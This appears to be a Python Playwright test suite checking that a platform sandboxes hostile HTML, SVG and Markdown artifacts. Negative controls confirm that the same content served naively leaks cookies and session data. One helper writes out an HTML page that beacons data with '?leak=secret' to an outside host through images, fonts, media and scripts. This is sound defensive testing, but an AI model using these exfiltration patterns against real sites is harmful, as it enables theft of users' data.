"""Hostile artifacts cannot read the session, call the platform as the viewer, or run
script in the platform's origin — and the same bytes served naively from the platform
origin DO leak (the negative control proving these checks would catch a leak)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from django.urls import reverse
from playwright.sync_api import Browser, Page, Route

from creations.artifacts.display import artifact_displays
from tests.support.artifacts import Output, finished_run
from tests.support.fixtures.accounts import PASSWORD, Team
from tests.support.fixtures.browser import IMAGE_WIDTH, Web
from tests.support.media_samples import hostile_html, hostile_markdown, hostile_svg
from tests.support.request_log import RequestLog

pytestmark = [
    pytest.mark.browser,
    pytest.mark.services,
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("sandbox_image"),  # markdown is rendered in a preview sandbox
]


def hostile_run(web: Web, team: Team) -> dict[str, Any]:
    run = finished_run(
        workspace=team.workspace,
        author=team.owner,
        brief="A harmless report",
        outputs=[
            Output("page.html", hostile_html(web.platform)),
            Output("logo.svg", hostile_svg(web.platform)),
            Output("report.md", hostile_markdown(web.platform)),
        ],
        # The markdown is rendered in a preview sandbox, as at ingestion; the page's and the picture's
        # previews are no part of what is tried here (a screenshot costs seconds of CPU under gVisor).
        previews={"report.md"},
    )
    return {a.path: a for a in run.artifacts.all()} | {"run": run}


def result_of(frame_or_page: Any) -> dict[str, str]:
    """What the hostile HTML managed to do (it writes it into #result)."""
    frame_or_page.locator("#result").filter(has_not_text="running").wait_for()
    return json.loads(frame_or_page.locator("#result").inner_text())


def serve_naively(page: Page, url: str, body: bytes, content_type: str) -> None:
    """The negative control: the platform origin answering with the artifact's bytes as is
    (no sandbox, no CSP), the way a careless implementation would."""

    def fulfill(route: Route) -> None:
        route.fulfill(status=200, body=body, headers={"Content-Type": content_type})

    page.route(url, fulfill)


def test_hostile_html_in_the_page_is_contained(web: Web, team: Team) -> None:
    artifacts = hostile_run(web, team)
    page = web.page()
    web.sign_in(page, team.owner.username, PASSWORD)
    detail = web.platform + reverse("artifact_detail", args=[artifacts["page.html"].pk])
    page.goto(detail)
    frame = page.frame_locator("iframe.artifact-frame")
    result = result_of(frame)
    web.shot(page, "isolation-html-framed")

    assert result["cookie"].startswith("ERR:"), result  # an opaque origin has no cookies
    assert result["localStorage"].startswith("ERR:"), result
    assert result["fetch"].startswith("ERR:"), result  # connect-src 'none'
    assert result["parentCookie"].startswith("ERR:"), result
    assert page.url == detail, "the artifact navigated the platform page away"
    assert not web.requested_within(page, "/__pwned__/", seconds=1.0), web.requests
    assert "sessionid" not in json.dumps(result)
    assert "csrftoken" not in json.dumps(result)


def test_hostile_html_opened_directly_is_contained(web: Web, team: Team) -> None:
    artifacts = hostile_run(web, team)
    page = web.page()
    web.sign_in(page, team.owner.username, PASSWORD)
    page.goto(web.platform + reverse("creation_detail", args=[artifacts["run"].creation_id]))
    with page.expect_popup() as popup_info:
        page.get_by_role("link", name="Open page.html").click()
    popup = popup_info.value
    assert popup.url.startswith(web.artifacts + "/r/")
    result = result_of(popup)
    assert result["cookie"].startswith("ERR:"), result
    assert result["localStorage"].startswith("ERR:"), result
    assert result["fetch"].startswith("ERR:"), result
    assert not web.requested_within(popup, "/__pwned__/", seconds=1.0), web.requests


def test_negative_control_the_same_html_from_the_platform_origin_leaks(web: Web, team: Team) -> None:
    page = web.page()
    web.sign_in(page, team.owner.username, PASSWORD)
    naive = f"{web.platform}/naive/page.html"
    serve_naively(page, naive, hostile_html(web.platform), "text/html; charset=utf-8")
    page.goto(naive)
    result = result_of(page)
    assert "csrftoken=" in result["cookie"], result
    assert result["localStorage"] == "1", result
    assert result["fetch"].startswith("200:"), result
    assert f"({team.owner.username})" in result["fetch"], "the page read the platform as the signed-in user"
    assert web.requested_within(page, "/__pwned__/html"), "the beacon reached the platform"


def test_hostile_svg_runs_no_script_as_an_image_or_opened_directly(web: Web, team: Team) -> None:
    artifacts = hostile_run(web, team)
    page = web.page()
    web.sign_in(page, team.owner.username, PASSWORD)
    page.goto(web.platform + reverse("artifact_detail", args=[artifacts["logo.svg"].pk]))
    assert page.locator("img.artifact-image").evaluate(IMAGE_WIDTH) == 200
    web.shot(page, "isolation-svg")
    direct = page.locator("img.artifact-image").get_attribute("src")
    assert direct
    assert direct.startswith(web.artifacts)
    page.goto(direct)
    page.wait_for_load_state("load")
    assert page.evaluate("document.documentElement.getAttribute('data-pwned')") is None
    assert page.evaluate("document.documentElement.getAttribute('data-script')") is None
    assert not web.requested_within(page, "/__pwned__/", seconds=1.0), web.requests


def test_negative_control_the_same_svg_from_the_platform_origin_runs_script(web: Web, team: Team) -> None:
    page = web.page()
    web.sign_in(page, team.owner.username, PASSWORD)
    naive = f"{web.platform}/naive/logo.svg"
    serve_naively(page, naive, hostile_svg(web.platform), "image/svg+xml")
    page.goto(naive)
    page.wait_for_load_state("load")
    assert "csrftoken=" in (page.evaluate("document.documentElement.getAttribute('data-pwned')") or "")
    assert page.evaluate("document.documentElement.getAttribute('data-script')") == "ran"


def test_hostile_markdown_is_rendered_inert(web: Web, team: Team) -> None:
    artifacts = hostile_run(web, team)
    page = web.page()
    web.sign_in(page, team.owner.username, PASSWORD)
    page.goto(web.platform + reverse("artifact_detail", args=[artifacts["report.md"].pk]))
    document = page.locator(".document.markdown")
    assert document.locator("h1", has_text="Quarterly report").is_visible()
    assert document.locator("script").count() == 0
    link = document.get_by_text("Click for details")
    assert (link.get_attribute("href") or "").lower().startswith("javascript:") is False
    link.click()
    page.wait_for_timeout(300)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert not web.requested_within(page, "/__pwned__/", seconds=1.0), web.requests
    web.shot(page, "isolation-markdown")


def test_negative_control_unsanitized_markdown_from_the_platform_origin_runs_script(web: Web, team: Team) -> None:
    import markdown

    page = web.page()
    web.sign_in(page, team.owner.username, PASSWORD)
    naive = f"{web.platform}/naive/report.html"
    rendered = markdown.markdown(hostile_markdown(web.platform).decode(), extensions=["extra"]).encode()
    serve_naively(page, naive, rendered, "text/html; charset=utf-8")
    page.goto(naive)
    page.wait_for_load_state("load")
    assert page.evaluate("window.__pwned === true")
    assert web.requested_within(page, "/__pwned__/markdown")


def beacons(url: str) -> bytes:
    """An HTML page that tries every kind of load a page can make without script, all to `url`."""
    return f"""<!doctype html><html><head><title>Tokyo map</title>
<link rel="stylesheet" href="{url}/style.css?leak=secret">
<style>
  @font-face {{ font-family: leak; src: url({url}/font.woff?leak=secret); }}
  body {{ font-family: leak; background: url({url}/background.png?leak=secret); }}
</style></head><body>
<img src="{url}/img.png?leak=secret">
<audio src="{url}/audio.wav?leak=secret" preload="auto"></audio>
<video src="{url}/video.mp4?leak=secret" preload="auto"></video>
<script src="{url}/script.js?leak=secret"></script>
<p id="done">done</p>
</body></html>""".encode()


def test_html_sends_nothing_to_another_host(web: Web, team: Team, browser: Browser) -> None:
    # Over HTTPS, with its certificate accepted: a policy that let `https:` through would show here.
    with RequestLog(tls=True) as elsewhere:
        page_html = beacons(elsewhere.url)
        run = finished_run(workspace=team.workspace, author=team.owner, outputs=[Output("map.html", page_html)])
        url = artifact_displays([run.artifacts.get()], user=team.owner)[0].url
        assert url.startswith(web.artifacts + "/r/")
        context = browser.new_context(ignore_https_errors=True)
        try:
            page = context.new_page()
            page.goto(url)
            page.locator("#done").wait_for()
            page.wait_for_timeout(1500)
            assert elsewhere.paths == []

            # The negative control: the same page served from loopback without the policy reaches it.
            with RequestLog(page=page_html) as naive:
                page.goto(f"{naive.url}/map.html")
                page.locator("#done").wait_for()
                page.wait_for_timeout(1500)
            assert "/img.png?leak=secret" in elsewhere.paths
        finally:
            context.close()
